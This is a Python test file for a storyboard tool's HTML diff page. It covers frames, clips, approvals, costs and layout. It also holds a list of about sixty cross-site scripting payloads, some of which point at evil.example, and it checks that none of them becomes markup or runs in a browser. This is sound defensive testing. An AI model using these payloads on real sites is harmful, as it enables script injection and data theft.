"""The page of a diff: what it shows of both sides, and that nobody's words become markup."""

import base64
import io
import json
import re
import time
from collections.abc import Callable, Iterator, Mapping
from dataclasses import fields, is_dataclass, replace
from fractions import Fraction
from functools import cache
from hashlib import sha256
from html.parser import HTMLParser
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

import storyboard
from storyboard import media
from storyboard.changes import facts_of
from storyboard.compiler import Project
from storyboard.diff import Diff, compare
from storyboard.diff.side import Side
from storyboard.film import Film
from storyboard.lock import EMPTY, Approval, Lock, Place, entry
from storyboard.memo import Memo
from storyboard.page import Pictures, of_diff, parts
from storyboard.page.markup import ATTRIBUTES, TAGS, document, element
from storyboard.page.pictures import Source
from storyboard.page.style import SHEET
from storyboard.stills import Part
from storyboard.store import Record, Store
from storyboard.tools import Tools
from tests.browser import Browser
from tests.folder import Folder

BOARD = """\
storyboard: 1
title: The Keeper
aspect: 16:9
style: {prompt: grey light}
passes:
  animatic: {model: local/animatic}
  draft: {model: wavespeed/alibaba/wan-2.6/image-to-video-flash}
scenes:
  - id: bay
    title: The bay
    place: the sea
    shots:
      - {id: s010, prompt: A lamp is lit, duration: 2, start_frame: lamp.png, notes: ask Ada}
      - {id: s020, prompt: The beam sweeps, duration: 2, start_frame: lamp.png}
      - {id: s030, prompt: A ship turns, duration: 2, start_frame: lamp.png}
      - {id: s040, prompt: Gulls, duration: 2, start_frame: lamp.png, dialogue: [{who: mira, line: Not tonight.}]}
characters: {mira: {name: Mira}}
"""


class Tree(HTMLParser):
    """The tags of a page in order with their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.other: list[str] = []
        self.words = ""
        self._open: list[str] = []
        self.styles = ""
        self.feed(page)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(attrs)))
        if tag not in {"meta", "img"}:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self._open and self._open[-1] == "style":
            self.styles += data
        else:
            self.words += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)

    @property
    def shape(self) -> list[tuple[str, tuple[str, ...], str | None]]:
        """The tags with the names of their attributes, and their class."""
        return [(tag, tuple(name for name, _ in attrs), dict(attrs).get("class")) for tag, attrs in self.tags]


@pytest.fixture
def film(project: Folder) -> Folder:
    project.picture("lamp.png")
    project.write(BOARD)
    return project


def loaded(folder: Folder) -> Project:
    return storyboard.load(folder.path / "storyboard.yaml")


def side(project: Project, name: str, lock: Lock = EMPTY) -> Side:
    return Side(name, project.asked(), project.asked(), lock)


@cache
def plain(ffmpeg: Path, colour: str) -> bytes:
    """A clip of two seconds of a colour."""
    with TemporaryDirectory() as folder:
        source = ("-f", "lavfi", "-i", f"color=c={colour}:s=320x180:r=24:d=2")
        media.run(ffmpeg, [*source, "-pix_fmt", "yuv420p", "clip.mp4"], Path(folder))
        return Path(folder, "clip.mp4").read_bytes()


def keep(project: Project, shot: str, tools: Tools, colour: str, pass_id: str = "draft") -> Record:
    """Put a clip of a shot into the store, two seconds of a colour."""
    job = project.asked().job(pass_id, shot)
    assert job
    assert job.key
    with project.store.workspace() as folder:
        (folder / "clip.mp4").write_bytes(plain(tools.ffmpeg, colour))
        return project.store.put(job.key, {"clip": folder / "clip.mp4"}, facts_of(job))


def diffed(folder: Folder, *edits: tuple[str, str], lock: Lock = EMPTY) -> tuple[Diff, Store]:
    """HEAD against the working tree, which is HEAD with some edits."""
    old = loaded(folder)
    was = side(old, "HEAD", lock)
    for edit in edits:
        folder.edit(*edit)
    new = loaded(folder)

    def holds(key: str) -> bool:
        return isinstance(new.store.find(key), Record)

    return compare(was, side(new, "the working tree", lock), holds), new.store


def page(folder: Folder, *edits: tuple[str, str], lock: Lock = EMPTY, **wanted: Any) -> str:
    diff, store = diffed(folder, *edits, lock=lock)
    return of_diff(diff, Pictures(store), **wanted)


def cards(text: str) -> dict[str, str]:
    """Each card's markup, by its shot's id."""
    found = re.findall(r'<article class="card".*?</article>', text, re.DOTALL)
    return {re.sub("<[^>]+>", "", re.search("<h3>(.*?)</h3>", card)[1]): card for card in found}  # type: ignore[index]


LIT = ("A lamp is lit", "A great lamp is lit")


def test_a_changed_shot_shows_the_frames_of_both_sides(film: Folder, tools: Tools) -> None:
    keep(loaded(film), "s010", tools, "red")
    film.edit(*LIT)
    keep(loaded(film), "s010", tools, "blue")
    film.edit(*reversed(LIT))
    card = cards(page(film, LIT))["s010"]
    before, after = re.findall(r'<figure class="side">.*?</figure>', card)
    for figure, label, channel in ((before, "HEAD, draft", 0), (after, "the working tree, draft", 2)):
        assert f"<figcaption>{label}</figcaption>" in figure
        urls = re.findall(r'src="(data:image/webp;base64,[^"]+)" alt="([^"]+)" width="(\d+)"', figure)
        assert [alt for _, alt, _ in urls] == [f"{label}: {name} frame" for name in ("first", "middle", "last")]
        for url, _, width in urls:
            assert width == "320"
            assert colour(url)[channel] > 180


def colour(url: str) -> tuple[int, int, int]:
    with Image.open(io.BytesIO(base64.b64decode(url.partition(",")[2]))) as picture:
        return picture.convert("RGB").resize((1, 1)).getpixel((0, 0))  # type: ignore[return-value]


def test_a_side_without_a_clip_says_so_and_what_one_costs(film: Folder, tools: Tools) -> None:
    keep(loaded(film), "s010", tools, "red")
    card = cards(page(film, LIT))["s010"]
    assert '<div class="slate">no clip here; draft costs $0.05</div>' in card
    assert '<span class="cost">$0.05</span>' in card


def test_the_best_clip_of_each_side_is_shown_and_its_pass_told(film: Folder, tools: Tools) -> None:
    keep(loaded(film), "s010", tools, "red", "animatic")
    keep(loaded(film), "s010", tools, "blue")
    card = cards(page(film, LIT))["s010"]
    assert "<figcaption>HEAD, draft</figcaption>" in card
    film.edit(*reversed(LIT))
    assert "<figcaption>HEAD, animatic</figcaption>" in cards(page(film, LIT, passes=["animatic"]))["s010"]


def test_a_clip_that_cant_be_read_is_told(film: Folder) -> None:
    old = loaded(film)
    job = old.asked().job("draft", "s010")
    assert job
    with old.store.workspace() as folder:
        (folder / "clip.mp4").write_bytes(b"\0\0\0\x18ftypisom" + bytes(64))
        old.store.put(job.key or "", {"clip": folder / "clip.mp4"}, {})
    assert "its clip can&#x27;t be shown" in cards(page(film, LIT))["s010"]


def test_what_changed_is_marked_word_by_word(film: Folder) -> None:
    card = cards(page(film, LIT))["s010"]
    row = re.search(r'<th scope="row">prompt</th>(.*?)</tr>', card)
    assert row
    assert "A <ins>great </ins>lamp is lit" in row[1]
    assert "<del>" not in row[1]


def test_every_kind_of_change_has_its_card_and_what_is_same_is_a_strip(film: Folder, tools: Tools) -> None:
    keep(loaded(film), "s020", tools, "red")
    gulls = BOARD.splitlines(keepends=True)[15]
    edits = [
        LIT,
        ("{id: s030,", "{id: s035,"),
        (gulls, "      - {id: s050, prompt: Dawn, duration: 3, start_frame: lamp.png}\n"),
    ]
    text = page(film, *edits)
    found = cards(text)
    assert list(found) == ["s010", "s030 s035", "s040", "s050"] or set(found) == {"s010", "s030 s035", "s040", "s050"}
    kinds = {name: re.findall(r'class="badge (\w+)"', card) for name, card in found.items()}
    assert kinds == {"s010": ["changed"], "s030 s035": ["renamed"], "s040": ["removed"], "s050": ["added"]}
    assert '<div class="slate">not in HEAD</div>' in found["s050"]
    assert '<div class="slate">not in the working tree</div>' in found["s040"]
    strip = re.search(r'<ol class="strip".*?</ol>', text)
    assert strip
    assert re.search(r'<li title="s020"><img src="data:image/webp[^>]*>s020</li>', strip[0])
    for words in ("1 added", "1 removed", "1 renamed", "1 changed", "1 unchanged"):
        assert words in Tree(text).words


def test_the_totals_stand_on_top(film: Folder) -> None:
    text = page(film, LIT)
    assert text.index("Bringing it up to date") < text.index("<main>")
    row = re.search(r'<th scope="row">draft</th>(.*?)</tr>', text)
    assert row
    assert re.findall(r"<td[^>]*>(.*?)</td>", row[1]) == ["1 clip", "$0.05", "0 of 4 shots"]


def test_approvals_are_shown_and_outdated_ones_as_such(film: Folder, tools: Tools) -> None:
    project = loaded(film)
    lock = Lock({})
    for shot in ("s010", "s020"):
        record, job = keep(project, shot, tools, "red"), project.asked().job("draft", shot)
        assert job
        said = Approval(record.outputs["clip"].sha256, job.key or "", "Ada <ada@x>", "2026-11-20T10:00:00Z", "lovely")
        lock = Lock({**lock.entries, Place(shot, "draft"): entry(job, record)._replace(approved=said)})
    text = page(film, LIT, ("grey light", "grey light"), ("notes: ask Ada", "notes: asked"), lock=lock)
    assert "outdated: another clip was approved by Ada, 2026-11-20: lovely" in cards(text)["s010"]
    assert "1 of 4 shots" in text
    film.edit("prompt: The beam sweeps,", "prompt: The beam sweeps, notes: dim,")
    assert (
        "approved by Ada, 2026-11-20: lovely" in cards(page(film, ("notes: dim", "notes: dimmer"), lock=lock))["s020"]
    )
    assert "ada@x" not in text


def test_nothing_differs(film: Folder) -> None:
    text = page(film)
    assert "nothing differs" in text
    assert cards(text) == {}


def test_a_film_that_is_on_one_side_only(film: Folder) -> None:
    project = loaded(film)
    nothing = Side("HEAD", None, None)
    for old, new, kind in ((nothing, side(project, "now"), "added"), (side(project, "now"), nothing, "removed")):
        text = of_diff(compare(old, new, lambda _: False), Pictures(project.store))
        assert text.count(f'class="badge {kind}">{kind}<') == 4


def test_a_long_run_of_unchanged_shots_is_folded(film: Folder) -> None:
    many = "".join(f"      - {{id: u{n:03}, prompt: Waves {n}, start_frame: lamp.png}}\n" for n in range(30))
    film.edit("      - {id: s010", many + "      - {id: s010")
    text = page(film, LIT)
    assert "22 more unchanged shots: u004 to u025" in text
    assert len(re.findall(r'<li title="u\d+">', text)) == 30


def test_a_style_that_all_shots_share_is_told_once(film: Folder) -> None:
    text = page(film, ("grey light", "golden light"))
    assert text.count("<ins>golden</ins>") == 1
    assert text.count("and as in many shots: style.prompt") == 4


def test_the_page_says_that_it_may_do_nothing_and_does_nothing(film: Folder, tools: Tools) -> None:
    keep(loaded(film), "s010", tools, "red")
    keep(loaded(film), "s020", tools, "red")
    text = page(film, LIT, moving=True)
    tree = Tree(text)
    assert tree.other == ["doctype html"]
    assert {tag for tag, _ in tree.tags} <= TAGS
    assert {name for _, attrs in tree.tags for name, _ in attrs} <= ATTRIBUTES
    policy = next(dict(attrs)["content"] for tag, attrs in tree.tags if dict(attrs).get("http-equiv"))
    digest = base64.b64encode(sha256(tree.styles.encode()).digest()).decode()
    assert policy == (
        "default-src 'none'; img-src data:; media-src data:; "
        f"style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    )
    ids = [dict(attrs)["id"] for _, attrs in tree.tags if dict(attrs).get("id")]
    assert len(ids) == len(set(ids)) == 1
    for _, attrs in tree.tags:
        for name, value in attrs:
            assert value is not None
            assert name != "href" or value[1:] in ids
            assert name != "src" or value.startswith(("data:image/webp;base64,", "data:video/mp4;base64,"))
    assert "data:video/mp4;base64," in text
    assert not re.search(r"url\(|@import|https?:", tree.styles)


def test_small_copies_of_clips_are_there_where_they_are_asked_for(film: Folder, tools: Tools) -> None:
    keep(loaded(film), "s010", tools, "red")
    text = page(film, LIT, moving=True)
    video = re.search(r'<video src="data:video/mp4;base64,([^"]+)" ([^>]*)>', text)
    assert video
    assert b"ftyp" in base64.b64decode(video[1])[:16]
    for flag in ("muted", "loop", "controls"):
        assert f'{flag}=""' in video[2]
    film.edit(*reversed(LIT))
    assert "<video" not in page(film, LIT)


ORDINARY = str.maketrans({sign: chr(0x2190 + n) for n, sign in enumerate("<>\"'&`=/\\")})
"""Signs that HTML knows to others that it doesn't, one for one."""
PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src='//evil.example/x.swf'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<base href='//evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>body{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css';",
    "<form action='//evil.example'><input name=q>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "</body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!doctype html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x0b>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}`;alert(1)//",
    "\u202e<script>alert(1)</script>\u202c",
    "\u2028<script>alert(1)</script>\u2029",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ud83d<script>alert(1)</script>\udcff",
    "x\x00<script\x00>alert(1)</script>",
    "expression(alert(1)) url(javascript:alert(1))",
    "a < b && c > d \"quoted\" 'single'",
]

Words = Callable[[str], str]


def rewritten(value: Any, words: Words, key: str = "") -> Any:
    """A value with every text that an author, a provider or a remote may choose replaced; ids and keys stay."""
    if isinstance(value, str):
        return value if key in KEPT else words(value)
    if isinstance(value, tuple) and hasattr(value, "_fields"):
        return value._replace(**{name: rewritten(getattr(value, name), words, name) for name in value._fields})
    if is_dataclass(value) and not isinstance(value, type):
        held = {one.name: rewritten(getattr(value, one.name), words, one.name) for one in fields(value) if one.init}
        return replace(value, **held)
    if isinstance(value, Mapping):
        return {name: rewritten(one, words, "" if key != "passes" else key) for name, one in value.items()}
    return tuple(rewritten(one, words, key) for one in value) if isinstance(value, tuple | list) else value


KEPT = {"id", "key", "sha256", "default_pass", "pass_id", "shot", "scene_id", "aspect", "clip", "at", "price"}


def diff_of(old: Film, new: Film, lock: Lock, words: Words) -> Diff:
    """A diff in which every text holds a payload; those of one side twice, so that they differ."""
    changed = rewritten(new, lambda text: words(text) * 2)
    said = rewritten(lock.entries, words)
    was, now = rewritten(old, words), changed
    return compare(
        Side(words("HEAD"), was, was, Lock(said)), Side(words("tree"), now, now, Lock(said)), lambda _: False
    )


def test_no_payload_in_any_text_becomes_markup(film: Folder, tools: Tools) -> None:
    assert len(PAYLOADS) >= 50
    project = loaded(film)
    record, job = keep(project, "s010", tools, "red"), project.asked().job("draft", "s010")
    assert job
    approved = Approval(record.outputs["clip"].sha256, job.key or "", "Ada", "2026-11-20T10:00:00Z", "a note")
    lock = Lock({Place("s010", "draft"): entry(job, record)._replace(approved=approved)})
    old = project.asked()
    film.edit(*LIT)
    film.edit("{id: s030, prompt: A ship turns", "{id: s035, prompt: A boat turns")
    new = loaded(film).asked()
    empty = Store(film.path / "empty", Memo(film.path / "hashes", time.time_ns))
    for payload in PAYLOADS:
        texts = []
        for said in (payload, payload.translate(ORDINARY)):
            diff = diff_of(old, new, lock, lambda text, said=said: f"{text} {said}")  # type: ignore[misc]
            texts.append(of_diff(diff, Pictures(empty)))
        hostile, plain = map(Tree, texts)
        assert hostile.shape == plain.shape, payload
        assert hostile.other == ["doctype html"], payload
        assert {tag for tag, _ in hostile.tags} <= TAGS
        assert {name for _, attrs in hostile.tags for name, _ in attrs} <= ATTRIBUTES
        assert hostile.styles == SHEET
        texts[0].encode()
        visible = re.sub(r"[\s\x00-\x1f\u202a-\u202e\u2028\u2029\ufeff\ud800-\udfff]+", "", payload)
        if visible == payload:
            assert hostile.words.count(payload) > 20


def test_no_payload_in_the_name_of_a_side_becomes_markup_beside_its_frames(film: Folder, tools: Tools) -> None:
    project = loaded(film)
    keep(project, "s010", tools, "red")
    keep(project, "s020", tools, "red")
    old = project.asked()
    film.edit(*LIT)
    new = loaded(film).asked()
    every = " ".join(PAYLOADS)
    hostile, plain = (
        Tree(of_diff(compare(Side(name, old, old), Side(name, new, new), lambda _: False), Pictures(project.store)))
        for name in (every, every.translate(ORDINARY))
    )
    assert hostile.shape == plain.shape
    assert sum(tag == "img" for tag, _ in hostile.tags) == 4


def test_credentials_and_hidden_characters_never_reach_the_page(film: Folder) -> None:
    said = "see https://ada:hunter2@example.com/x \u202egnp.exe"
    link = said.partition(" \u202e")[0]
    film.edit("notes: ask Ada", f"notes: {json.dumps(link)}")
    text = page(film, (link, "see https://ada:hunter3@example.com/x"))
    assert "hunter3" not in text
    assert "hunter2" not in text
    assert text.count("https://***********@example.com/x") == 2
    assert "\u202e" not in document("t", "", element("p", said))


@pytest.mark.parametrize(
    ("tag", "attributes"),
    [
        ("script", {}),
        ("iframe", {}),
        ("form", {}),
        ("p", {"onclick": "x"}),
        ("p", {"style": "x"}),
        ("a", {"href": "https://example.com"}),
        ("a", {"href": "javascript:alert(1)"}),
        ("a", {"href": "#a\n"}),
        ("img", {"src": "https://example.com/x.png"}),
        ("img", {"src": "data:image/svg+xml;base64,AAAA"}),
        ("img", {"src": "data:text/html;base64,AAAA"}),
        ("img", {"src": 'data:image/webp;base64,AA" onerror="x'}),
    ],
)
def test_an_element_that_could_do_something_cant_be_made(tag: str, attributes: dict[str, str]) -> None:
    with pytest.raises(ValueError, match=r"has no place in a page|leads out of the page"):
        element(tag, **attributes)


def test_attributes_are_text_too() -> None:
    text = document("t", "", element("p", title="\"'<>&"))
    assert Tree(text).tags[-1] == ("p", (("title", "\"'<>&"),))


@given(st.text(), st.text())
def test_marking_what_differs_loses_no_word(old: str, new: str) -> None:
    before, after = parts.marked(old, new)

    def text(pieces: Any) -> str:
        return "".join(one if isinstance(one, str) else "".join(one.children) for one in pieces)

    assert (text(before), text(after)) == (old, new)
    shared = ["".join(one for one in side if isinstance(one, str)) for side in (before, after)]
    assert shared[0] == shared[1]
    if old == new:
        assert all(isinstance(one, str) for one in (*before, *after))


def test_long_texts_are_marked_between_what_they_share() -> None:
    words = " ".join(map(str, range(5000)))
    before, after = parts.marked(f"start {words} end", f"start {words[::-1]} end")
    assert [one if isinstance(one, str) else one.tag for one in before] == ["start ", "del", " end"]
    assert [one if isinstance(one, str) else one.tag for one in after] == ["start ", "ins", " end"]


def test_the_more_pictures_a_page_has_the_smaller_they_are(tools: Tools, tmp_path: Path) -> None:
    store = Store(tmp_path / "store", Memo(tmp_path / "hashes", time.time_ns))
    noise = ("-f", "lavfi", "-i", "color=c=gray:s=320x180:r=24:d=0.5,noise=alls=100:allf=t")
    media.run(tools.ffmpeg, [*noise, "-pix_fmt", "yuv420p", "-g", "1", "clip.mp4"], tmp_path)
    clip = store.put("a" * 64, {"clip": tmp_path / "clip.mp4"}, {}).outputs["clip"]
    sources = [Source("draft", clip, Part(Fraction(n, 24), Fraction(1, 24))) for n in range(12)]
    few, many = Pictures(store), Pictures(store, frames_budget=60_000, thumbnails_budget=10_000)
    few.make(sources, [])
    many.make(sources, sources)
    sizes = [{one.width for three in made.frames.values() for one in three} for made in (few, many)]
    assert min(sizes[0]) > max(sizes[1])
    for made, budget in ((few, 3_000_000), (many, 60_000)):
        assert sum(len(one.url) for three in made.frames.values() for one in three) < 1.6 * budget
    assert sum(len(one.url) for one in many.thumbnails.values()) < 1.6 * 10_000
    often = Pictures(store, frames_budget=60_000)
    often.make(sources[:2] * 6, [])
    assert {one.width for three in often.frames.values() for one in three} == sizes[1]
    fewer = Pictures(store, frames_budget=20_000)
    fewer.make(sources, [])
    assert {len(three) for three in fewer.frames.values()} == {1}


# -- As a browser shows it


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    try:
        started = Browser()
    except OSError as error:
        pytest.skip(f"{error}: nobody looks at the page")
    with started:
        yield started


PICTURES = """Promise.all([...document.images].map(async it => {
    it.loading = 'eager'; await it.decode(); return it.naturalWidth == it.width || it.naturalWidth }))"""
CLIPS = """Promise.all([...document.querySelectorAll('video')].map(async it => {
    await it.play(); return [it.videoWidth > 0, it.error === null, it.paused] }))"""
INKS = """[...document.querySelectorAll('h1, h2, h3, p, td, th, a, figcaption, .badge, .slate, .faint, ins, del')]
    .filter(it => it.textContent.trim() && !it.closest('.skip') && !it.classList.contains('skip')).map(it => {
    let on = it; while (getComputedStyle(on).backgroundColor == 'rgba(0, 0, 0, 0)') on = on.parentElement
    return [it.tagName + '.' + it.className, getComputedStyle(it).color, getComputedStyle(on).backgroundColor] })"""


def luminance(colour: str) -> float:
    """Of 0 to 1, by https://www.w3.org/TR/WCAG22/#dfn-relative-luminance."""
    parts_ = [int(one) / 255 for one in re.findall(r"\d+", colour)[:3]]
    red, green, blue = (one / 12.92 if one <= 0.04045 else ((one + 0.055) / 1.055) ** 2.4 for one in parts_)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def many_kinds(film: Folder, tools: Tools) -> tuple[str, ...]:
    """A page with a card of each kind, frames on both sides and clips that move; and its edits."""
    for shot in ("s010", "s020", "s030"):
        keep(loaded(film), shot, tools, "red")
    film.edit(*LIT)
    keep(loaded(film), "s010", tools, "blue")
    film.edit(*reversed(LIT))
    gulls = BOARD.splitlines(keepends=True)[15]
    dawn = f"      - {{id: s050, prompt: {'Dawn' * 60}, duration: 3, start_frame: lamp.png}}\n"
    edits = [LIT, ("{id: s030,", "{id: s035,"), (gulls, dawn)]
    return (page(film, *edits, moving=True),)


def test_the_browser_would_tell(browser: Browser, tmp_path: Path) -> None:
    (tmp_path / "bad.html").write_text(
        "<meta http-equiv='Content-Security-Policy' content=\"img-src data:; script-src 'unsafe-inline'\">"
        "<img src='http://127.0.0.1:9/x'><link rel=stylesheet href='http://127.0.0.1:9/y'><script>console.log(7)</script>"
    )
    browser.open(tmp_path / "bad.html")
    assert "http://127.0.0.1:9/y" in browser.asked()
    assert any("Content Security Policy" in said for said in browser.said())
    assert any("7" in said and "type" in said for said in browser.said())


def shown(browser: Browser, film: Folder, text: str, **how: Any) -> None:
    """Open a page, which asks for nothing and complains of nothing."""
    target = film.path / "diff.html"
    target.write_text(text, "utf-8")
    browser.open(target, **how)
    assert browser.asked() == [target.as_uri()]


def test_a_browser_shows_every_frame_and_plays_every_clip_and_asks_for_nothing(
    film: Folder, tools: Tools, browser: Browser
) -> None:
    (text,) = many_kinds(film, tools)
    shown(browser, film, text)
    assert browser.value("document.title")
    assert len(browser.value(PICTURES)) == text.count("<img ") > 6
    assert all(browser.value(PICTURES))
    assert browser.value(CLIPS) == [[True, True, False]] * text.count("<video ") != []
    assert browser.value("[...document.querySelectorAll('a')].every(it => document.querySelector(it.hash))")
    boxes = browser.value("""[...document.querySelectorAll('.frames')].slice(0, 2).map(it => {
        it.scrollIntoView(); const box = it.getBoundingClientRect()
        return [box.x, box.y + scrollY, box.width, box.height] })""")
    with Image.open(io.BytesIO(browser.picture(whole=True))) as whole:
        for (x, y, width, height), channel in zip(boxes, (0, 2), strict=True):
            middle = whole.convert("RGB").getpixel((int(x + width / 2), int(y + height / 2)))
            assert isinstance(middle, tuple)
            assert middle[channel] > 180
            assert middle[2 - channel] < 90
    assert browser.said() == []
    assert len(browser.asked()) == 1


@pytest.mark.parametrize("dark", [False, True])
def test_every_word_can_be_read_by_day_and_by_night(film: Folder, tools: Tools, browser: Browser, dark: bool) -> None:
    shown(browser, film, many_kinds(film, tools)[0], dark=dark)
    found = browser.value(INKS)
    assert len({name for name, _, _ in found}) > 12
    assert (luminance(browser.value("getComputedStyle(document.body).backgroundColor")) < 0.2) is dark
    for name, ink, paper in found:
        high, low = sorted((luminance(ink), luminance(paper)), reverse=True)
        assert (high + 0.05) / (low + 0.05) >= 4.5, (name, ink, paper)


@pytest.mark.parametrize("width", [320, 375, 760, 1024, 1600, 3840])
def test_no_width_makes_the_page_scroll_sideways(film: Folder, tools: Tools, browser: Browser, width: int) -> None:
    shown(browser, film, many_kinds(film, tools)[0], width=width)
    assert browser.value("document.documentElement.scrollWidth") <= width
    wide = "[...document.querySelectorAll('body *')].filter(it => it.getBoundingClientRect().right > innerWidth + 1)"
    assert browser.value(f"{wide}.filter(it => !it.closest('.table > *')).map(it => it.outerHTML.slice(0, 200))") == []
    tables = "[...document.querySelectorAll('.table')].every(it => getComputedStyle(it).overflowX == 'auto')"
    assert browser.value(tables)


def test_no_payload_does_anything_in_a_browser(film: Folder, browser: Browser) -> None:
    old = loaded(film).asked()
    film.edit(*LIT)
    new = loaded(film).asked()
    empty = Store(film.path / "empty", Memo(film.path / "hashes", time.time_ns))
    for first in range(12):
        payloads = PAYLOADS[first::12]
        diff = diff_of(old, new, EMPTY, lambda text, said=payloads: " ".join([text, *said]))  # type: ignore[misc]
        shown(browser, film, of_diff(diff, Pictures(empty)))
        names = browser.value("[...document.querySelectorAll('body *')].map(it => it.localName)")
        assert {"article", "td"} <= set(names) <= TAGS, payloads
        words = browser.value("document.body.textContent")
        assert all(words.count(payload) > 20 for payload in payloads if payload.isprintable()), payloads
        assert browser.said() == [], payloads
